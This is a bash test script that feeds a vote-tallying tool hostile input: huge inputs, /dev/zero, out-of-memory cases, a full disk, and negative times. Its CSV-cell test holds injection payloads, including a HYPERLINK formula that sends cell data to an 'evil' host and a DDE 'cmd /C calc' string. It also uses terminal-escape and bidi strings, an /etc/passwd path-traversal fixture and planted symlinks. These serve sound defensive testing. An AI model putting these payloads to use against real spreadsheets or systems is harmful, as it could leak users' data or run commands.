#!/usr/bin/env bash
# Hostile input (issue 10): every case ends in a clear error or a bounded
# result. Each case prints its wall time and peak memory when GNU time is
# installed; those figures are for the record (docs/limits.md), never
# asserted.
# usage: hostile_test.sh GOVTALLY_BINARY REPO_ROOT
set -u
gt=$1; root=$2
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
pass=0; fail=0
gen=$root/tests/hostile/rankings.py

# expect NAME WANTED_STATUS STDERR_PATTERN -- command...
expect() {
  local name=$1 want=$2 pattern=$3; shift 4
  local fig=""
  if [ -x /usr/bin/time ]; then
    /usr/bin/time -o "$tmp/time" -f '%e s, %M KiB' "$@" >"$tmp/out" 2>"$tmp/err"
  else
    "$@" >"$tmp/out" 2>"$tmp/err"
  fi
  local got=$?
  [ -s "$tmp/time" ] && fig=" ($(tail -1 "$tmp/time"))"; rm -f "$tmp/time"
  if [ "$got" -ne "$want" ]; then
    echo "FAIL $name: exit $got, wanted $want"; sed 's/^/  stderr: /' "$tmp/err" | head -5
    fail=$((fail+1)); return
  fi
  if [ -n "$pattern" ] && ! grep -q -- "$pattern" "$tmp/err"; then
    echo "FAIL $name: stderr lacks '$pattern'"; sed 's/^/  stderr: /' "$tmp/err" | head -5
    fail=$((fail+1)); return
  fi
  echo "ok $name$fig"; pass=$((pass+1))
}

# ---- bounded work: choices ------------------------------------------------
python3 "$gen" copeland 10000 1 1 > "$tmp/c10k.json"
expect "copeland, 10,000 choices: refused" 65 "c10k.json:1:.*more than 1000 choices" -- "$gt" run "$tmp/c10k.json"
python3 "$gen" ranked-choice 10000 2 2 > "$tmp/r10k.json"
expect "ranked-choice, 10,000 choices: refused" 65 "more than 1000 choices" -- "$gt" run "$tmp/r10k.json"
python3 "$gen" copeland 100000 1 3 > "$tmp/c100k.json"
expect "copeland, 100,000 choices: refused" 65 "more than 1000 choices" -- "$gt" run "$tmp/c100k.json"
# At the limit: answers (sizes kept small for the debug and sanitizer
# builds; docs/limits.md has the release figures of larger ones).
python3 "$gen" copeland 1000 3 4 > "$tmp/c1k.json"
expect "copeland, 1,000 choices x 3 rankings" 0 "" -- "$gt" run "$tmp/c1k.json" --format json
python3 "$gen" ranked-choice 1000 30 5 > "$tmp/r1k.json"
expect "ranked-choice, 1,000 choices x 30 rankings" 0 "" -- "$gt" run "$tmp/r1k.json" --format json
python3 "$gen" single-choice 1001 3 6 > "$tmp/s1001.json"
expect "single-choice, 1,001 choices: refused" 65 "more than 1000 choices" -- "$gt" run "$tmp/s1001.json"

# ---- bounded readers: an endless input stops at its limit ----------------
issuers=$root/fixtures/identity-sybil-whale/issuers.json
ex=$root/examples/whale-veto/proposal.json
map='voter=a,choice=b,vp=c,proposal=d'
expect "trust file /dev/zero" 65 "/dev/zero: larger than the limit of 1 MiB" -- "$gt" attest verify -i /dev/zero "$issuers"
expect "key file /dev/zero" 65 "/dev/zero: larger than the limit of 64 KiB" -- "$gt" attest sign -k /dev/zero --scope s --issued-at 1 "$issuers"
# Streamed: refused after 64 KiB, in little memory (400 MB here; the
# memory cap is left out under AddressSanitizer, which reserves terabytes).
zero_cap="ulimit -v 400000;"
grep -q __asan_init "$gt" 2>/dev/null && zero_cap=
expect "replay /dev/zero: streamed, refused after 64 KiB" 65 "text outside any document larger than the limit of 64 KiB" -- bash -c "$zero_cap exec '$gt' replay /dev/zero"
# NUL bytes are refused at the first chunk (not text: UTF-16?); an endless
# line of text stops at the line limit.
expect "import csv /dev/zero" 65 "/dev/zero:1: the file is not text: it holds NUL bytes" -- "$gt" import csv --map "$map" /dev/zero
expect "replay csv /dev/zero" 65 "the file is not text: it holds NUL bytes" -- "$gt" replay --from csv --map "$map" /dev/zero
expect "import csv, an endless line" 65 "-:1: a line larger than the limit of 16 MiB" -- \
  bash -c "tr '\\0' a < /dev/zero | '$gt' import csv --map '$map' -"
expect "replay csv, an endless line" 65 "a line larger than the limit of 16 MiB" -- \
  bash -c "tr '\\0' a < /dev/zero | '$gt' replay --from csv --map '$map' -"
head -c 2000000 /dev/zero > "$tmp/zeros"
expect "trust file of 2 MB: refused before reading" 65 "zeros: larger than the limit of 1 MiB" -- "$gt" run "$ex" -a "$root/fixtures/identity-sybil-whale/att.jsonl" -i "$tmp/zeros"

# ---- out of memory: exit 70 with a message, never abort() -----------------
# Inputs within their limits that need more memory than the process may
# have (ulimit -v). Not under AddressSanitizer, which reserves terabytes of
# address space at start.
if grep -q __asan_init "$gt" 2>/dev/null; then
  echo "skip out-of-memory cases: AddressSanitizer build"
else
  expect "attestations /dev/zero, 400 MB of memory" 70 "out of memory" -- bash -c "ulimit -v 400000; exec '$gt' attest verify -i '$issuers' /dev/zero"
fi

# ---- times before 1970; replay's error rows name the proposal -------------
v='{"voter":"0x1111111111111111111111111111111111111111","choice":1,"vp":1'
printf '{"proposal":{"id":"0xab","type":"single-choice","choices":["a"],"end":-1},"votes":[%s}]}' "$v" > "$tmp/end.json"
printf '{"proposal":{"id":"0xab","type":"single-choice","choices":["a"]},"votes":[%s,"created":-1}]}' "$v" > "$tmp/created.json"
expect "proposal end -1" 65 'end.json:1:.*end is negative' -- "$gt" run "$tmp/end.json"
expect "vote created -1" 65 'created is negative (a time before 1970) (vote 0, at $.votes\[0\].created' -- "$gt" run "$tmp/created.json"
expect "replay row of a broken proposal" 65 "" -- "$gt" replay "$tmp/created.json" --format json -o "$tmp/rows.json"
if grep -q '"proposal": "0xab", "input": ' "$tmp/rows.json"; then echo "ok replay error row carries the id"; pass=$((pass+1))
else echo "FAIL replay error row: $(cat "$tmp/rows.json")"; fail=$((fail+1)); fi
expect "replay csv row of a broken proposal" 65 "" -- "$gt" replay "$tmp/created.json" --format csv -o "$tmp/rows.csv"
if sed -n 2p "$tmp/rows.csv" | grep -q '^0xab,,'; then echo "ok replay csv error row carries the id"; pass=$((pass+1))
else echo "FAIL replay csv error row: $(cat "$tmp/rows.csv")"; fail=$((fail+1)); fi

# ---- shown text and CSV cells (docs/formats.md#csv-cells) -----------------
python3 - "$tmp/labels.json" <<'PY'
import json, sys
labels = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '-5',
          '@SUM(A1:A9)', '\tTAB', '\r=1', '\x1b]0;pwned\x07', '\u202eexe.txt', 'a,b']
votes = [{"id": "v%d" % i, "voter": "0x%040x" % (i + 1), "created": 1, "choice": i + 1,
          "vp": i + 1} for i in range(len(labels))]
json.dump({"proposal": {"id": "0x01", "space": {"id": "=cmd"}, "type": "single-choice",
           "choices": labels}, "votes": votes}, open(sys.argv[1], "w"))
PY
"$gt" run "$tmp/labels.json" --format csv --schemes token > "$tmp/labels.csv"
cat > "$tmp/labels.want" <<'CSV'
scheme,choice,label,score,share,winner
token,1,"'=HYPERLINK(""http://evil/?""&A1,""x"")",1,0.018181818181818181,0
token,2,'+cmd|' /C calc'!A0,2,0.036363636363636363,0
token,3,'-2+3,3,0.054545454545454545,0
token,4,-5,4,0.072727272727272727,0
token,5,'@SUM(A1:A9),5,0.090909090909090909,0
token,6,\x09TAB,6,0.10909090909090909,0
token,7,\x0D=1,7,0.127272727272727272,0
token,8,\x1B]0;pwned\x07,8,0.145454545454545454,0
token,9,\u202Eexe.txt,9,0.163636363636363636,0
token,10,"a,b",10,0.181818181818181818,1
CSV
if cmp -s "$tmp/labels.csv" "$tmp/labels.want"; then echo "ok CSV cells: formulas neutralised, controls escaped (exact bytes)"; pass=$((pass+1))
else echo "FAIL CSV cells:"; diff "$tmp/labels.want" "$tmp/labels.csv" | head; fail=$((fail+1)); fi
"$gt" replay "$tmp/labels.json" --format csv > "$tmp/replay.csv"
if sed -n 2p "$tmp/replay.csv" | grep -q "^0x01,'=cmd,single-choice,"; then echo "ok replay CSV: a space '=cmd' is neutralised"; pass=$((pass+1))
else echo "FAIL replay CSV: $(sed -n 2p "$tmp/replay.csv")"; fail=$((fail+1)); fi
"$gt" run "$tmp/labels.json" --format text > "$tmp/labels.txt"
if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$tmp/labels.txt" || grep -q "$(printf '\342\200\256')" "$tmp/labels.txt"; then
  echo "FAIL text report holds a control byte or a bidi control"; fail=$((fail+1))
else echo "ok text report: no control byte, no bidi control"; pass=$((pass+1)); fi
printf '{"proposal":{"id":"0x01","type":"single-choice","choices":["a"]},"votes":[{"id":"\\u001b[31mX\\u202e","voter":"0x\\u001b]0;t\\u0007","choice":1,"vp":1}]}' > "$tmp/badvote.json"
expect "error message: voter and vote id escaped" 65 'voter "0x\\x1B]0;t\\x07" is not an address .*(vote 0 id \\x1B\[31mX\\u202E,' -- "$gt" run "$tmp/badvote.json"

# ---- fixture references --------------------------------------------------
mkdir "$tmp/fx"; mkfifo "$tmp/fx/fifo"
printf '{"input": "fifo", "expect": {}}' > "$tmp/fx/fifo.json"
printf '{"input": "/etc/passwd", "expect": {}}' > "$tmp/fx/passwd.json"
expect "check: a FIFO as input fails at once" 65 '"fifo" is a FIFO, not a regular file' -- timeout 20 "$gt" check "$tmp/fx/fifo.json"
expect "check: /etc/passwd as input" 65 "outside the fixture's folder" -- "$gt" check "$tmp/fx/passwd.json"
expect "check --allow-outside: /etc/passwd is read (and is no export)" 65 "passwd" -- "$gt" check --allow-outside "$tmp/fx/passwd.json"

# ---- safe outputs ------------------------------------------------------------
# A run killed while -o's file is open leaves nothing behind: O_TMPFILE
# (Linux) holds the contents in an unnamed file; the mkstemp fallback
# removes its file on SIGTERM. kill -9 of the fallback leaves its
# ".NAME.XXXXXX" (documented in docs/limits.md).
# The run waits on a FIFO as its input (nobody writes it) with -o's file
# open, so the kill always lands while the output is being made.
mkfifo "$tmp/in.fifo"
killed_run() { # killed_run NAME SIGNAL WANT_LEFT [ENV...]
  local name=$1 sig=$2 want=$3; shift 3
  rm -rf "$tmp/k"; mkdir "$tmp/k"
  env "$@" "$gt" replay "$tmp/in.fifo" --format json -o "$tmp/k/out.json" 2>/dev/null &
  local pid=$!
  for _ in $(seq 100); do # until the output's file is open (or 10 s)
    ls -l /proc/$pid/fd 2>/dev/null | grep -q "$tmp/k" && break; sleep 0.1
  done
  kill -"$sig" $pid; wait $pid 2>/dev/null
  local left; left=$(ls -A "$tmp/k" | wc -l)
  if [ "$left" -eq "$want" ]; then echo "ok $name"; pass=$((pass+1))
  else echo "FAIL $name: $left files left, wanted $want: $(ls -A "$tmp/k")"; fail=$((fail+1)); fi
}
killed_run "kill -9 while -o is open: nothing left (O_TMPFILE)" KILL 0
killed_run "kill -TERM, mkstemp fallback: nothing left" TERM 0 GOVTALLY_NO_TMPFILE=1
killed_run "kill -9, mkstemp fallback: its temporary file is left" KILL 1 GOVTALLY_NO_TMPFILE=1

# The temporary file never goes through a planted name: with symlinks at
# every name the old scheme used (PATH.tmp.PID) for the next pids, the
# link targets stay untouched; the target itself is replaced, not written
# through.
mkdir "$tmp/s"; echo keep > "$tmp/s/victim"
python3 -c 'import os, sys
d, n = sys.argv[1], os.getpid()
for p in range(n + 1, n + 400):
    os.symlink("victim", "%s/out.json.tmp.%d" % (d, p))
os.symlink("victim", d + "/out.json")' "$tmp/s"
expect "-o with planted symlinks" 0 "" -- "$gt" run "$ex" --format json -o "$tmp/s/out.json"
if [ "$(cat "$tmp/s/victim")" = keep ] && [ ! -L "$tmp/s/out.json" ] && [ -s "$tmp/s/out.json" ]; then
  echo "ok symlink targets untouched"; pass=$((pass+1))
else echo "FAIL symlink targets untouched"; fail=$((fail+1)); fi
for mode in "" 1; do
  mkdir -p "$tmp/m$mode"; (umask 027; GOVTALLY_NO_TMPFILE=$mode "$gt" run "$ex" --format json -o "$tmp/m$mode/out.json")
  m=$(stat -c %a "$tmp/m$mode/out.json")
  if [ "$m" = 640 ]; then echo "ok mode 0666 less the umask${mode:+ (mkstemp)}"; pass=$((pass+1))
  else echo "FAIL mode: $m, wanted 640"; fail=$((fail+1)); fi
done

# Disk full names the file and the reason.
expect "-o /dev/full" 73 "/dev/full: cannot write.*No space left on device" -- "$gt" run "$tmp/r1k.json" --format json -o /dev/full
expect "replay -o /dev/full" 73 "/dev/full: cannot write.*No space left on device" -- "$gt" replay "$tmp/r1k.json" --format json -o /dev/full
expect "standard output full" 73 "standard output: No space left on device" -- bash -c "exec '$gt' run '$ex' --format json > /dev/full"

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
